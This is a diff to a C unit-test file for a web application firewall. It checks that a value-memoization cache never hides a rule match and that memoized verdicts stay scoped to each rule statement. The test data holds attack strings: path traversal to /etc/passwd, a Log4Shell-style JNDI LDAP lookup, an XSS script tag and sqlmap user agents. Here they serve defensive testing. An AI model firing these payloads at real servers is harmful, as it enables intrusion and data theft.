@@ -1301,8 +1301,9 @@ static void assert_same_verdict(const struct gw_waf_verdict *a, const struct gw_
 
 static void test_value_memo_never_hides_a_match(void **state) {
     (void)state;
-    /* Benign values, attacks in the same places, values one byte from each other, an attack
-     * after 192 bytes (too long to be remembered) and one at exactly 192. */
+    /* Benign values, attacks in the same places (path, query string, headers, body), values one
+     * byte from each other, an attack after 192 bytes (too long to be remembered) and one at
+     * exactly 192. */
     char long_ua[300], edge_ua[193];
     memset(long_ua, 'a', sizeof long_ua);
     memcpy(long_ua + 200, "sqlmap/1.0", 11);
@@ -1311,9 +1312,19 @@ static void test_value_memo_never_hides_a_match(void **state) {
     char long_hdr[320], edge_hdr[220];
     snprintf(long_hdr, sizeof long_hdr, "User-Agent: %s", long_ua);
     snprintf(edge_hdr, sizeof edge_hdr, "User-Agent: %sx", edge_ua); /* 192 bytes */
-    static const char *const paths[] = {
-        "/items/42", "/items/43",        "/items/../../etc/passwd",         "/items/42.bak",
-        "/items/42", "/WEB-INF/web.xml", "/items/%2e%2e/%2e%2e/etc/passwd", "/items/42"};
+    static const char *const paths[] = {"/items/42",
+                                        "/items/43",
+                                        "/items/../../etc/passwd",
+                                        "/items/42.bak",
+                                        "/items/42",
+                                        "/WEB-INF/web.xml",
+                                        "/items/%2e%2e/%2e%2e/etc/passwd",
+                                        "/items/42?q=1",
+                                        "/items/42?q=${jndi:ldap://x/a}",
+                                        "/items/42?q=${jndi:ldap://x/b}",
+                                        "/items/42"};
+    static const char *const bodies[] = {NULL, "{\"a\":1}", "<script>alert(1)</script>",
+                                         "{\"a\":2}", "${jndi:ldap://x/c}"};
     const char *const hdrs[] = {UA,
                                 "User-Agent: sqlmap/1.0",
                                 "User-Agent: sqlmap/1.1",
@@ -1333,13 +1344,18 @@ static void test_value_memo_never_hides_a_match(void **state) {
     struct gw_waf *w = open_default(false), *w0 = open_default(true);
     size_t blocked = 0, total = 0;
     for (int round = 0; round < 3; round++) {
-        for (size_t p = 0; p < sizeof paths / sizeof paths[0]; p++)
+        for (size_t k = 0; k < sizeof paths / sizeof paths[0] * (sizeof bodies / sizeof bodies[0]);
+             k++)
             for (size_t h = 0; h < sizeof hdrs / sizeof hdrs[0]; h++) {
+                size_t p = k % (sizeof paths / sizeof paths[0]);
+                const char *body = bodies[k / (sizeof paths / sizeof paths[0])];
                 struct req q;
-                mk(&q, "GET", paths[p], NULL, UA, "Accept: application/json", hdrs[h], NULL);
+                mk(&q, body ? "POST" : "GET", paths[p], body, UA, "Accept: application/json",
+                   hdrs[h], NULL);
                 struct gw_waf_verdict a = judge(w, &q, NULL), b = judge(w0, &q, NULL);
                 char what[400];
-                snprintf(what, sizeof what, "round %d, %s + %.60s", round, paths[p], hdrs[h]);
+                snprintf(what, sizeof what, "round %d, %s + %.60s + %s", round, paths[p], hdrs[h],
+                         body ? body : "no body");
                 assert_same_verdict(&a, &b, what);
                 blocked += a.action == GW_WAF_BLOCK;
                 total++;
@@ -1359,6 +1375,43 @@ static void test_value_memo_never_hides_a_match(void **state) {
     assert_int_equal(gw_waf_memo_hits(w0), 0);
     gw_waf_free(w);
     gw_waf_free(w0);
+}
+
+/* A statement is cleared by its own verdicts only: the Count rule before it (its neighbour in
+ * the numbering) learns "no match" on every field, and the Block rule must still match each
+ * time. */
+static void test_value_memo_clears_a_statement_by_its_own_verdicts_only(void **state) {
+    (void)state;
+    static const char *const fields[] = {"{'UriPath':{}}",
+                                         "{'QueryString':{}}",
+                                         "{'Body':{}}",
+                                         "{'Method':{}}",
+                                         "{'SingleHeader':{'Name':'x-a'}}",
+                                         "{'Headers':{'MatchPattern':{'All':{}},'MatchScope':"
+                                         "'ALL','OversizeHandling':'CONTINUE'}}"};
+    for (size_t f = 0; f < sizeof fields / sizeof fields[0]; f++) {
+        char doc[2048];
+        snprintf(doc, sizeof doc,
+                 "{'Name':'t','DefaultAction':{'Allow':{}},'Rules':["
+                 "{'Name':'A','Priority':0,'Action':{'Count':{}},'VisibilityConfig':{"
+                 "'MetricName':'A'},'Statement':{'RegexMatchStatement':{'RegexString':'zzz',"
+                 "'FieldToMatch':%s,'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}},"
+                 "{'Name':'B','Priority':1,'Action':{'Block':{}},'VisibilityConfig':{"
+                 "'MetricName':'B'},'Statement':{'RegexMatchStatement':{'RegexString':'EVIL',"
+                 "'FieldToMatch':%s,'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}]}",
+                 fields[f], fields[f]);
+        struct gw_waf *w = open_acl(doc);
+        for (int i = 0; i < 3; i++) {
+            struct req q;
+            mk(&q, "EVIL", "/EVIL?EVIL", "EVIL", "X-A: EVIL", NULL);
+            struct gw_waf_verdict v = judge(w, &q, NULL);
+            if (v.action != GW_WAF_BLOCK || strcmp(v.rule, "B"))
+                fail_msg("%s, request %d: %s by %s", fields[f], i, gw_waf_action_name(v.action),
+                         v.rule);
+        }
+        assert_true(gw_waf_memo_hits(w) > 0);
+        gw_waf_free(w);
+    }
 }
 
 /*
@@ -1455,6 +1508,7 @@ int main(void) {
         cmocka_unit_test(test_regex_prefilter_never_skips_a_match),
         cmocka_unit_test(test_value_memo_never_hides_a_match),
         cmocka_unit_test(test_value_memo_slot_taken_over_mid_request),
+        cmocka_unit_test(test_value_memo_clears_a_statement_by_its_own_verdicts_only),
         cmocka_unit_test(test_default_action_block_blocks_unmatched_requests),
         cmocka_unit_test(test_invalid_documents_name_the_json_path_and_reason),
         cmocka_unit_test(test_bare_rules_list_webacl_wrapper_and_camel_case_all_load),
